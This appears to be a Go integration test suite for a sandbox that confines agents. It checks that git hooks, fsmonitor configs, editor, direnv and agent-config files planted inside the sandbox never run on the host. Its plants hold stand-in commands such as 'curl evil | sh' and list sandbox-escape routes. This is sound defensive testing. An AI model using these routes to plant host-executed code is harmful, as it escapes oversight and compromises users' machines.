// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Warden Authors

//go:build integration && linux

package sandbox

// Adversarial tests of what the host executes later: each route plants,
// from inside the sandbox, something the host's git, agent CLI, editor or
// shell would run after the run, then runs the host's git status and git
// commit (or looks for the file) and checks that a marker under a
// directory the sandbox cannot write was not created. A control plants the
// same thing outside Warden and sees the marker made, so each test would
// see a success. Real git on the host; same assumptions as
// attack_integration_test.go.

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"warden.dev/warden/internal/audit"
	"warden.dev/warden/internal/sandbox/sandboxtest"
)

// hostGit runs the host's git with a home of its own (an identity, no
// system configuration), as the user would after the run.
type hostGit struct {
	home string
}

func newHostGit(t *testing.T) *hostGit {
	t.Helper()
	requireTool(t, "git")
	home := varTempDir(t)
	writeFiles(t, home, map[string]string{".gitconfig": "[user]\n\tname = Host\n\temail = host@example.invalid\n" +
		"[safe]\n\tdirectory = *\n[protocol \"file\"]\n\tallow = always\n[init]\n\tdefaultBranch = main\n"})
	return &hostGit{home: home}
}

func (h *hostGit) env() []string {
	return []string{"HOME=" + h.home, "GIT_CONFIG_NOSYSTEM=1", "PATH=" + os.Getenv("PATH"), "LANG=C"}
}

// git runs git in dir and returns its combined output.
func (h *hostGit) git(t *testing.T, dir string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = h.env()
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// mustGit runs git in dir and fails the test if it fails.
func (h *hostGit) mustGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := h.git(t, dir, args...)
	if err != nil {
		t.Fatalf("git %q in %s: %v\n%s", args, dir, err, out)
	}
	return out
}

// initRepo makes dir a repository with one commit.
func (h *hostGit) initRepo(t *testing.T, dir string) {
	t.Helper()
	h.mustGit(t, dir, "init", "-q")
	writeFiles(t, dir, map[string]string{"README": "hello\n"})
	h.mustGit(t, dir, "add", "README")
	h.mustGit(t, dir, "commit", "-q", "-m", "first")
}

// openAll makes everything under dir writable by anyone: the rerun as uid
// 65534 and the sandbox's uid both write it.
func openAll(t *testing.T, dir string) {
	t.Helper()
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		switch {
		case err != nil, fi.Mode()&os.ModeSymlink != 0:
		case fi.IsDir():
			os.Chmod(p, 0o777)
		default:
			os.Chmod(p, fi.Mode().Perm()|0o666)
		}
		return nil
	})
}

// trap is a marker the planted command would create, in a directory the
// sandbox sees read-only, and the planted command itself.
type trap struct {
	marker, evil string
}

func newTrap(t *testing.T) trap {
	t.Helper()
	dir := varTempDir(t)
	tr := trap{marker: filepath.Join(dir, "marker"), evil: filepath.Join(dir, "evil.sh")}
	if err := os.WriteFile(tr.evil, []byte("#!/bin/sh\n: > "+tr.marker+"\ncat >/dev/null 2>&1 </dev/null\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Chmod(tr.evil, 0o755)
	return tr
}

func (tr trap) sprung() bool {
	_, err := os.Stat(tr.marker)
	return err == nil
}

// route is one way to plant something the host executes later.
type route struct {
	// setup makes the project on the host (from the empty directory
	// project) and returns the directory to run in, the project by
	// default.
	setup func(t *testing.T, h *hostGit, project string) string
	// plant is a shell script run in the project, inside the sandbox
	// (and, for the control, on the host): $EVIL is a command that makes
	// the marker.
	plant string
	// trigger runs what the host would run later; the default is git
	// status and git commit in the project.
	trigger func(t *testing.T, h *hostGit, project string, tr trap)
	// settled, when set, is a file the plant makes in the project once
	// every process it started has ended: on the host, where nothing
	// kills them, the control's project is removed only then (else a
	// survivor planting on makes what the removal took away again).
	settled string
}

func defaultTrigger(t *testing.T, h *hostGit, project string, _ trap) {
	h.git(t, project, "status")
	h.git(t, project, "commit", "-q", "--allow-empty", "-m", "host commit")
}

// prepare makes a fresh project for r and returns it with its trap.
func (r route) prepare(t *testing.T, h *hostGit) (string, trap) {
	t.Helper()
	project := varTempDir(t)
	os.Chmod(project, 0o777)
	if r.setup != nil {
		project = r.setup(t, h, project)
	}
	openAll(t, project)
	return project, newTrap(t)
}

// check runs the control (the plant outside Warden springs the trap) and
// the attack (planted inside, it does not), and returns the attack's
// outcome and project.
func (r route) check(t *testing.T) (outcome, string, *hostGit) {
	t.Helper()
	h := newHostGit(t)
	trigger := r.trigger
	if trigger == nil {
		trigger = defaultTrigger
	}
	// Control: the same plant, on the host.
	ctl, ctlTrap := r.prepare(t, h)
	cmd := exec.Command("sh", "-c", r.plant)
	cmd.Dir = ctl
	cmd.Env = append(h.env(), "EVIL="+ctlTrap.evil)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Logf("control plant: %v\n%s", err, out)
	}
	if r.settled != "" {
		// Registered after the project's removal, so run before it.
		t.Cleanup(func() {
			for i := 0; i < 1000; i++ {
				if _, err := os.Lstat(filepath.Join(ctl, r.settled)); err == nil {
					return
				}
				time.Sleep(10 * time.Millisecond)
			}
			t.Errorf("control: the plant's processes did not end within 10 s; %s may be left behind", ctl)
		})
	}
	trigger(t, h, ctl, ctlTrap)
	if !ctlTrap.sprung() {
		t.Fatalf("control: planted outside Warden, the route did not run on the host; the test could not see an escape")
	}
	project, tr := r.prepare(t, h)
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Env: []string{"EVIL=" + tr.evil},
		Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(r.plant)})
	if o.err != nil {
		t.Fatalf("run: %v", o.err)
	}
	trigger(t, h, project, tr)
	if tr.sprung() {
		t.Errorf("the host executed what the run planted (quarantined: %+v)", o.res.Quarantined)
	}
	return o, project, h
}

const fsmonitorConfig = `printf '[core]\n\tfsmonitor = %s\n' "$EVIL"`

// plantCommonDir makes .git/x a git directory whose config and hooks run
// $EVIL (copying the data git needs), for commondir to point at.
const plantCommonDir = `mkdir -p .git/x/hooks && cp -r .git/objects .git/refs .git/HEAD .git/x/
` + fsmonitorConfig + ` > .git/x/config
cp "$EVIL" .git/x/hooks/pre-commit
`

func repoSetup(t *testing.T, h *hostGit, project string) string {
	h.initRepo(t, project)
	return project
}

func TestAdversarialHostExecCommondir(t *testing.T) {
	o, project, _ := route{setup: repoSetup, plant: plantCommonDir + "echo x > .git/commondir\n"}.check(t)
	for _, p := range []string{".git/commondir", ".git/x"} {
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
	}
	wantQuarantined(t, o.res, filepath.Join(project, ".git/commondir"), filepath.Join(project, ".git/x"))
}

// TestAdversarialHostExecOutlivesCommand: the plant comes from a
// process the command left behind, in a session of its own, which plants
// again and again after the command has ended. Every process of the
// sandbox is gone before the post-run check looks, so nothing is planted
// after it: the host finds nothing, even a while later.
func TestAdversarialHostExecOutlivesCommand(t *testing.T) {
	loop := "for i in $(seq 60); do { " + strings.ReplaceAll(plantCommonDir, "\n", "; ") +
		"echo x > .git/commondir; } 2>/dev/null; sleep 0.01; done; touch .settled"
	o, project, _ := route{setup: repoSetup, settled: ".settled",
		plant: "setsid sh -c '" + strings.ReplaceAll(loop, "'", `'\''`) + "' </dev/null >/dev/null 2>&1 & sleep 0.1",
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			// Time for a survivor to plant again.
			time.Sleep(300 * time.Millisecond)
			defaultTrigger(t, h, project, tr)
		}}.check(t)
	for _, p := range []string{".git/commondir", ".git/x"} {
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
	}
	wantQuarantined(t, o.res, filepath.Join(project, ".git/commondir"), filepath.Join(project, ".git/x"))
}

func TestAdversarialHostExecCommondirElsewhere(t *testing.T) {
	// The common directory a full repository elsewhere in the project.
	route{setup: repoSetup, plant: `git init -q --bare planted && ` + fsmonitorConfig + ` >> planted/config && cp "$EVIL" planted/hooks/pre-commit && cp -r .git/objects .git/refs planted/ && echo ../planted > .git/commondir`}.check(t)
}

func TestAdversarialHostExecConfigWorktree(t *testing.T) {
	route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			h.mustGit(t, project, "config", "extensions.worktreeConfig", "true")
			return project
		},
		plant: fsmonitorConfig + " > .git/config.worktree",
	}.check(t)
}

func TestAdversarialHostExecWorktreesDir(t *testing.T) {
	var wt string
	route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			wt = filepath.Join(varTempDir(t), "wt")
			h.mustGit(t, project, "worktree", "add", "-q", wt)
			return project
		},
		// The linked worktree elsewhere reads its commondir from here.
		plant:   plantCommonDir + "echo ../../x > .git/worktrees/wt/commondir; cp \"$EVIL\" .git/worktrees/wt/hooks 2>/dev/null; true",
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) { defaultTrigger(t, h, wt, tr) },
	}.check(t)
}

func TestAdversarialHostExecModules(t *testing.T) {
	o, project, _ := route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			lib := varTempDir(t)
			h.initRepo(t, lib)
			h.initRepo(t, project)
			h.mustGit(t, project, "submodule", "add", "-q", lib, "sub")
			h.mustGit(t, project, "commit", "-q", "-m", "submodule")
			return project
		},
		plant: fsmonitorConfig + ` >> .git/modules/sub/config; cp "$EVIL" .git/modules/sub/hooks/pre-commit; echo x > .git/modules/sub/config.worktree`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			defaultTrigger(t, h, filepath.Join(project, "sub"), tr)
		},
	}.check(t)
	wantQuarantined(t, o.res, filepath.Join(project, ".git/modules/sub/config.worktree"))
}

func TestAdversarialHostExecInfo(t *testing.T) {
	route{
		setup: repoSetup,
		// info/attributes decides which files a filter the user
		// configured (here on the command line) runs on.
		plant: `echo '* filter=mark' > .git/info/attributes`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			writeFiles(t, project, map[string]string{"new.txt": "data\n"})
			h.git(t, project, "-c", "filter.mark.clean="+tr.evil, "add", "new.txt")
		},
	}.check(t)
}

func TestAdversarialHostExecAlternates(t *testing.T) {
	h := newHostGit(t)
	project := varTempDir(t)
	h.initRepo(t, project)
	openAll(t, project)
	other := varTempDir(t)
	h.initRepo(t, other)
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Quarantine: filepath.Join(varTempDir(t), "q"),
		Argv: sh("echo " + other + "/.git/objects > .git/objects/info/alternates; echo https://evil.example/ > .git/objects/info/http-alternates")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	for _, p := range []string{"alternates", "http-alternates"} {
		if _, err := os.Lstat(filepath.Join(project, ".git/objects/info", p)); err == nil {
			t.Errorf("objects/info/%s left on the host", p)
		}
	}
	wantQuarantined(t, o.res, filepath.Join(project, ".git/objects/info/alternates"))
	// Control: the objects themselves stay writable.
	o = run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home,
		Argv: sh("echo data > f && git add f && git -c user.name=W -c user.email=w@example.invalid commit -q -m inside")})
	if o.err != nil || o.res.Status() != 0 {
		t.Fatalf("git commit inside: %v, status %d", o.err, o.res.Status())
	}
	if out := h.mustGit(t, project, "log", "--format=%s", "-1"); out != "inside\n" {
		t.Errorf("the commit made inside is not on the host: %q", out)
	}
}

func TestAdversarialHostExecGitInitSub(t *testing.T) {
	route{
		setup: repoSetup,
		plant: `git init -q sub && ` + fsmonitorConfig + ` >> sub/.git/config && cp "$EVIL" sub/.git/hooks/pre-commit`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			defaultTrigger(t, h, filepath.Join(project, "sub"), tr)
		},
	}.check(t)
}

// TestAdversarialHostExecGitInitHiddenConfig plants, in a repository the
// run makes, a core.fsmonitor that a comment ending in a backslash hides
// from a parser that takes the backslash for a continuation: git reads
// the comment's line as a comment and the next as a variable, and runs it.
// Nothing but the form git writes is left to the host.
func TestAdversarialHostExecGitInitHiddenConfig(t *testing.T) {
	route{
		setup: repoSetup,
		plant: `git init -q sub && printf '# \\\n\tfsmonitor = %s\n' "$EVIL" >> sub/.git/config`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			defaultTrigger(t, h, filepath.Join(project, "sub"), tr)
		},
	}.check(t)
}

// TestAdversarialHostExecCloneKept is the control of the routes above: a
// repository the run clones or makes with git init, with nothing planted,
// stays whole on the host (its remote, its branch) and the run is not
// refused.
func TestAdversarialHostExecCloneKept(t *testing.T) {
	h := newHostGit(t)
	upstream := varTempDir(t)
	h.initRepo(t, upstream)
	project := varTempDir(t)
	openAll(t, project)
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Quarantine: filepath.Join(varTempDir(t), "q"),
		Argv: sh("git clone -q " + upstream + " cloned && git init -q fresh && cd fresh && echo x > f && git add f && git commit -q -m fresh")})
	if o.err != nil || o.res.Status() != 0 {
		t.Fatalf("clone inside: %v, status %d", o.err, o.res.Status())
	}
	if len(o.res.Quarantined) != 0 {
		t.Errorf("a plain clone and init were quarantined: %+v", o.res.Quarantined)
	}
	if out := h.mustGit(t, filepath.Join(project, "cloned"), "remote", "get-url", "origin"); strings.TrimSpace(out) != upstream {
		t.Errorf("the clone's remote on the host: %q", out)
	}
	if out := h.mustGit(t, filepath.Join(project, "fresh"), "log", "--format=%s"); out != "fresh\n" {
		t.Errorf("the new repository's history on the host: %q", out)
	}
}

func TestAdversarialHostExecInBiggerRepo(t *testing.T) {
	// The project is a folder of a bigger repository and has no .git of
	// its own: a git init in it takes over the host's git there.
	route{
		setup: func(t *testing.T, h *hostGit, big string) string {
			h.initRepo(t, big)
			p := filepath.Join(big, "proj")
			os.Mkdir(p, 0o777)
			return p
		},
		plant: `git init -q . && ` + fsmonitorConfig + ` >> .git/config && cp "$EVIL" .git/hooks/pre-commit && git init -q nested && cp "$EVIL" nested/.git/hooks/pre-commit`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			defaultTrigger(t, h, project, tr)
			defaultTrigger(t, h, filepath.Join(project, "nested"), tr)
		},
	}.check(t)
}

func TestAdversarialHostExecGitlink(t *testing.T) {
	// A nested repository registered in the index as a gitlink: the
	// host's git status at the top runs git in it.
	route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			lib := filepath.Join(project, "lib")
			os.Mkdir(lib, 0o777)
			h.initRepo(t, lib)
			h.mustGit(t, project, "add", "lib")
			h.mustGit(t, project, "commit", "-q", "-m", "gitlink")
			return project
		},
		plant: fsmonitorConfig + ` >> lib/.git/config; cp "$EVIL" lib/.git/hooks/pre-commit; echo change >> lib/README`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			h.git(t, project, "status")
			defaultTrigger(t, h, filepath.Join(project, "lib"), tr)
		},
	}.check(t)
}

func TestAdversarialHostExecNestedSwap(t *testing.T) {
	// The nested repository moved aside and a new one, with a hook, put
	// in its place.
	route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			lib := filepath.Join(project, "vendor", "lib")
			os.MkdirAll(lib, 0o777)
			h.initRepo(t, lib)
			return project
		},
		plant: `mv vendor vendor-aside || mv vendor/lib vendor/lib-aside || mv vendor/lib/.git vendor/lib/git-aside; rm -rf vendor/lib/.git; git init -q vendor/lib; cp "$EVIL" vendor/lib/.git/hooks/pre-commit`,
		trigger: func(t *testing.T, h *hostGit, project string, tr trap) {
			defaultTrigger(t, h, filepath.Join(project, "vendor", "lib"), tr)
		},
	}.check(t)
}

func TestAdversarialHostExecGitFileElsewhere(t *testing.T) {
	h := newHostGit(t)
	other := varTempDir(t)
	h.initRepo(t, other)
	project := varTempDir(t)
	writeFiles(t, project, map[string]string{".git": "gitdir: " + filepath.Join(other, ".git") + "\n"})
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Argv: sh("echo ran > ran")})
	var se *SetupError
	if !errors.As(o.err, &se) || !strings.Contains(se.What, filepath.Join(project, ".git")) {
		t.Fatalf("a .git file pointing at another repository: %v, want a setup error naming it", o.err)
	}
	if _, err := os.Stat(filepath.Join(project, "ran")); err == nil {
		t.Error("the command ran")
	}
}

func TestAdversarialHostExecLinkedWorktree(t *testing.T) {
	o, project, h := route{
		setup: func(t *testing.T, h *hostGit, dir string) string {
			main := filepath.Join(dir, "main")
			os.Mkdir(main, 0o777)
			h.initRepo(t, main)
			h.mustGit(t, main, "config", "extensions.worktreeConfig", "true")
			wt := filepath.Join(dir, "wt")
			h.mustGit(t, main, "worktree", "add", "-q", wt)
			return wt
		},
		plant: `echo inside > made && git add made && git -c user.name=W -c user.email=w@example.invalid commit -q -m inside && echo committed
C=$(git rev-parse --git-common-dir) G=$(git rev-parse --git-dir)
` + fsmonitorConfig + ` >> "$C/config"; cp "$EVIL" "$C/hooks/pre-commit"; ` + fsmonitorConfig + ` > "$G/config.worktree"; true`,
	}.check(t)
	if !strings.Contains(o.stdout, "committed") {
		t.Errorf("git commit in the linked worktree failed inside: %s", o.stderr)
	}
	if len(o.res.Quarantined) != 1 || !strings.HasSuffix(o.res.Quarantined[0].Path, "/.git/worktrees/wt/config.worktree") {
		t.Errorf("quarantined %+v, want the worktree's config.worktree", o.res.Quarantined)
	}
	if out, _ := h.git(t, project, "log", "--format=%s", "-3"); !strings.Contains(out, "inside") {
		t.Errorf("the commit made inside the linked worktree is not on the host: %q", out)
	}
}

func TestAdversarialHostExecHooksPath(t *testing.T) {
	for _, existing := range []bool{true, false} {
		t.Run(fmt.Sprintf("existing=%v", existing), func(t *testing.T) {
			o, project, _ := route{
				setup: func(t *testing.T, h *hostGit, project string) string {
					h.initRepo(t, project)
					h.mustGit(t, project, "config", "core.hooksPath", ".husky")
					if existing {
						writeFiles(t, project, map[string]string{".husky/commit-msg": "#!/bin/sh\nexit 0\n"})
					}
					return project
				},
				plant: `mkdir -p .husky; cp "$EVIL" .husky/pre-commit`,
			}.check(t)
			if !existing {
				wantQuarantined(t, o.res, filepath.Join(project, ".husky"))
			}
		})
	}
}

func TestAdversarialHostExecHooksSymlink(t *testing.T) {
	o, project, _ := route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			os.RemoveAll(filepath.Join(project, ".git/hooks"))
			writeFiles(t, project, map[string]string{"githooks/commit-msg": "#!/bin/sh\nexit 0\n"})
			if err := os.Symlink("../githooks", filepath.Join(project, ".git/hooks")); err != nil {
				t.Fatal(err)
			}
			return project
		},
		// Write the target, then replace the link.
		plant: `cp "$EVIL" githooks/pre-commit; rm -f .git/hooks && mkdir .git/hooks && cp "$EVIL" .git/hooks/pre-commit`,
	}.check(t)
	if l, err := os.Readlink(filepath.Join(project, ".git/hooks")); err != nil || l != "../githooks" {
		t.Errorf(".git/hooks after the run: %q, %v; want the link restored", l, err)
	}
	wantQuarantined(t, o.res, filepath.Join(project, ".git/hooks"))
}

func TestAdversarialHostExecHooksDanglingLink(t *testing.T) {
	// .git/hooks links to a directory that does not exist yet: the run
	// makes it, with a hook.
	o, project, _ := route{
		setup: func(t *testing.T, h *hostGit, project string) string {
			h.initRepo(t, project)
			os.RemoveAll(filepath.Join(project, ".git/hooks"))
			if err := os.Symlink("../githooks", filepath.Join(project, ".git/hooks")); err != nil {
				t.Fatal(err)
			}
			return project
		},
		plant: `mkdir githooks && cp "$EVIL" githooks/pre-commit`,
	}.check(t)
	wantQuarantined(t, o.res, filepath.Join(project, "githooks"))
}

func TestAdversarialHostExecReadWriteRepo(t *testing.T) {
	// A sibling repository the policy lets the run write: its hooks and
	// config are protected as the project's, and a repository made in
	// it is quarantined.
	h := newHostGit(t)
	project, sibling := varTempDir(t), varTempDir(t)
	h.initRepo(t, sibling)
	openAll(t, project)
	openAll(t, sibling)
	tr := newTrap(t)
	plant := `cp "$EVIL" "$S/.git/hooks/pre-commit"; ` + fsmonitorConfig + ` >> "$S/.git/config"; git init -q "$S/new" && cp "$EVIL" "$S/new/.git/hooks/pre-commit"; echo ok > "$S/written"`
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, ReadWrite: []string{sibling},
		Env: []string{"EVIL=" + tr.evil, "S=" + sibling}, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(plant)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	defaultTrigger(t, h, sibling, tr)
	defaultTrigger(t, h, filepath.Join(sibling, "new"), tr)
	if tr.sprung() {
		t.Errorf("the host executed what the run planted in a read_write repository (quarantined: %+v)", o.res.Quarantined)
	}
	wantQuarantined(t, o.res, filepath.Join(sibling, "new/.git/hooks"))
	// Control: the read_write path itself is writable.
	if b, _ := os.ReadFile(filepath.Join(sibling, "written")); string(b) != "ok\n" {
		t.Errorf("control: the read_write path was not written: %q", b)
	}
}

func TestAdversarialHostExecProjectFiles(t *testing.T) {
	project := openProject(t)
	q := filepath.Join(varTempDir(t), "q")
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Protect: []string{"CLAUDE.md"}, Quarantine: q, Argv: sh(
		`mkdir -p .claude .vscode a/b && echo '{"hooks":{}}' > .claude/settings.json && echo '{}' > .vscode/tasks.json && echo 'touch /tmp/x' > a/b/.envrc && echo 'run evil' > CLAUDE.md && echo 'run evil' > sub.code-workspace && echo ok > ordinary`)})
	if o.err != nil || o.res.Status() != 0 {
		t.Fatalf("run: %v, status %d", o.err, o.res.Status())
	}
	for _, p := range []string{".claude", ".vscode", "a/b/.envrc", "CLAUDE.md", "sub.code-workspace"} {
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
		wantQuarantined(t, o.res, filepath.Join(project, p))
	}
	if b, err := os.ReadFile(filepath.Join(q, "files", project, ".claude/settings.json")); err != nil || !strings.Contains(string(b), "hooks") {
		t.Errorf("the quarantine does not hold .claude/settings.json: %q, %v", b, err)
	}
	// Control: an ordinary file is written.
	if b, _ := os.ReadFile(filepath.Join(project, "ordinary")); string(b) != "ok\n" {
		t.Errorf("control: an ordinary file was not written: %q", b)
	}
}

// TestAdversarialHostExecSiblings plants what the other agents, editors
// and environment managers run from a project on the host: Copilot CLI's
// hooks (the one entry of two components), OpenCode's plugins, Kiro's,
// Amazon Q's and Crush's MCP servers, Vim's and Neovim's exrc files, Emacs'
// directory variables, mise's cd hooks. Those that exist stay as they
// were whatever the run does to them; those the run creates are
// quarantined; their ordinary neighbours are written.
func TestAdversarialHostExecSiblings(t *testing.T) {
	project := openProject(t)
	orig := map[string]string{
		".github/hooks/session.json": `{"version":1,"hooks":{}}`,
		".opencode/plugins/fmt.ts":   "export const Fmt = async () => ({})\n",
		".kiro/settings/mcp.json":    `{"mcpServers":{}}`,
		"sub/.nvimrc":                "set number\n",
		"sub/mise.toml":              "[tools]\ngo = '1.26'\n",
		".dir-locals.el":             "((nil . ((indent-tabs-mode . t))))\n",
	}
	writeFiles(t, project, orig)
	openAll(t, project)
	script := `
for f in .github/hooks/session.json .opencode/plugins/fmt.ts .kiro/settings/mcp.json sub/.nvimrc sub/mise.toml .dir-locals.el; do
	echo 'curl evil | sh' > "$f"; echo '!curl evil | sh' >> "$f"; rm -f "$f"
done
echo evil > .github/hooks/evil.json
rm -rf .github/hooks .opencode .kiro
mv .github .github-aside && mkdir -p .github/hooks && echo evil > .github/hooks/evil.json
mv sub sub-aside && mkdir sub && echo '!curl evil | sh' > sub/.nvimrc
mkdir -p .opencode/plugins && echo evil > .opencode/plugins/evil.ts
mkdir -p a deep/er .amazonq .helix
echo '!curl evil | sh' > a/.exrc; echo '!curl evil | sh' > a/.vimrc
echo '((nil . ((eval . (shell-command "curl evil | sh")))))' > deep/er/.dir-locals-2.el
echo '{"mcp":{"x":{"command":"sh"}}}' > crush.json
echo '{"mcpServers":{"x":{"command":"sh"}}}' > .amazonq/mcp.json
echo '[language-server.x]' > .helix/languages.toml
echo '{"build_systems":[{"shell_cmd":"sh"}]}' > x.sublime-project
printf '[hooks]\nenter = "curl evil | sh"\n' > a/.mise.local.toml
mkdir -p .github/workflows && echo ci > .github/workflows/ci.yml
echo ok > a/ordinary
`
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(script)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	for name, body := range orig {
		if b, err := os.ReadFile(filepath.Join(project, name)); err != nil || string(b) != body {
			t.Errorf("%s changed on the host: %q, %v", name, b, err)
		}
	}
	for _, gone := range []string{".github-aside", "sub-aside", ".github/hooks/evil.json", ".opencode/plugins/evil.ts"} {
		if _, err := os.Lstat(filepath.Join(project, gone)); err == nil {
			t.Errorf("%s exists on the host", gone)
		}
	}
	planted := []string{"a/.exrc", "a/.vimrc", "deep/er/.dir-locals-2.el", "crush.json", ".amazonq", ".helix", "x.sublime-project", "a/.mise.local.toml"}
	for _, p := range planted {
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
		wantQuarantined(t, o.res, filepath.Join(project, p))
	}
	// Control: their neighbours, .github's other entries among them, are
	// written.
	for name, want := range map[string]string{".github/workflows/ci.yml": "ci\n", "a/ordinary": "ok\n"} {
		if b, err := os.ReadFile(filepath.Join(project, name)); err != nil || string(b) != want {
			t.Errorf("control: %s was not written: %q, %v", name, b, err)
		}
	}
}

// TestAdversarialHostExecClosedDir plants host-executed files in
// directories it then closes to their owner (mode 0111: the host's shell
// still enters them, and direnv reads .envrc by name): one the run made,
// one below it, and one of the project that existed at start. As uid
// 65534 (TestAttacksAsUnprivilegedUser) the post-run check, running as
// their owner, cannot list them as they are; it opens them to itself,
// takes what was planted and gives them their mode back.
func TestAdversarialHostExecClosedDir(t *testing.T) {
	project := openProject(t)
	if err := os.Mkdir(filepath.Join(project, "src"), 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(filepath.Join(project, "src"), 0o777)
	// What the run closed, opened again, so that the project can be
	// removed whatever the check did.
	t.Cleanup(func() { reopenTree(project) })
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
		`mkdir -p d/e && echo 'curl evil | sh' > d/.envrc && echo '!curl evil | sh' > d/e/.nvimrc && chmod 111 d/e d && ` +
			`echo 'curl evil | sh' > src/.envrc && echo ok > src/ordinary && chmod 111 src && ` +
			// Listable, but closed to writing: neither it nor what is
			// in it could be moved or removed as it is.
			`mkdir -p .vscode/sub w && echo '{}' > .vscode/sub/tasks.json && chmod 555 .vscode/sub .vscode && ` +
			`echo 'curl evil | sh' > w/.envrc && chmod 555 w`)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	for _, p := range []string{"d/.envrc", "d/e/.nvimrc", "src/.envrc", ".vscode", "w/.envrc"} {
		wantQuarantined(t, o.res, filepath.Join(project, p))
		if _, err := os.Lstat(filepath.Join(project, p)); err == nil {
			t.Errorf("%s left on the host", p)
		}
	}
	for d, mode := range map[string]os.FileMode{"d": 0o111, "d/e": 0o111, "src": 0o111, "w": 0o555} {
		if fi, err := os.Lstat(filepath.Join(project, d)); err != nil || fi.Mode().Perm() != mode {
			t.Errorf("%s does not have the mode the run gave it back: %v, %v", d, fi.Mode(), err)
		}
	}
	// Control: what is not host-executed stays.
	if b, err := os.ReadFile(filepath.Join(project, "src/ordinary")); err != nil || string(b) != "ok\n" {
		t.Errorf("control: src/ordinary: %q, %v", b, err)
	}
}

// TestAdversarialHostExecClosedGitDir: a repository the run makes, with a
// hook, and whose .git it then closes to its owner (chmod 000): the host's
// git, as the owner, could open it again; the check, as the owner,
// cannot list it as it is (uid 65534), so it opens it, takes the hook and
// gives it its mode back.
func TestAdversarialHostExecClosedGitDir(t *testing.T) {
	requireTool(t, "git")
	project := openProject(t)
	t.Cleanup(func() { reopenTree(project) })
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
		`git init -q r && printf '#!/bin/sh\ncurl evil | sh\n' > r/.git/hooks/pre-commit && chmod 755 r/.git/hooks/pre-commit && chmod 000 r/.git`)})
	if o.err != nil || o.res.Status() != 0 {
		t.Fatalf("run: %v, status %d", o.err, o.res.Status())
	}
	wantQuarantined(t, o.res, filepath.Join(project, "r/.git/hooks"))
	gitDir := filepath.Join(project, "r/.git")
	if fi, err := os.Lstat(gitDir); err != nil || fi.Mode().Perm() != 0 {
		t.Errorf("r/.git does not have the mode the run gave it: %v, %v", fi, err)
	}
	os.Chmod(gitDir, 0o755)
	if _, err := os.Lstat(filepath.Join(gitDir, "hooks/pre-commit")); err == nil {
		t.Error("the hook planted in a closed .git is left on the host")
	}
}

// TestAdversarialClosedDirAtStart: directories of the project closed to
// their owner before the run (mode 0111: searchable, not listable; mode
// 0000) hold a secret and an .envrc. The command runs as their owner, so
// it could read c/.env by name, rewrite c/.envrc, or chmod z and read it;
// as uid 65534 (TestAttacksAsUnprivilegedUser) the project walk cannot
// list them either, so it masks them whole.
func TestAdversarialClosedDirAtStart(t *testing.T) {
	project := openProject(t)
	const secret = "warden-test-secret"
	writeFiles(t, project, map[string]string{"c/.env": secret + " closed", "c/.envrc": "echo hi\n", "z/.env": secret + " shut", "z/notes": "notes"})
	// The post-run check counts what it did not see at start, and whose
	// ctime is not before the run's, as the run's own.
	passCoarse(t, project+"/c/.envrc", project+"/c/.env", project+"/z/.env", project+"/z/notes")
	for d, mode := range map[string]os.FileMode{"c": 0o111, "z": 0} {
		if err := os.Chmod(filepath.Join(project, d), mode); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { reopenTree(project) })
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh(
		`cat c/.env; echo 'curl evil | sh' >> c/.envrc; chmod 755 z; cat z/.env; echo ok > ordinary`)})
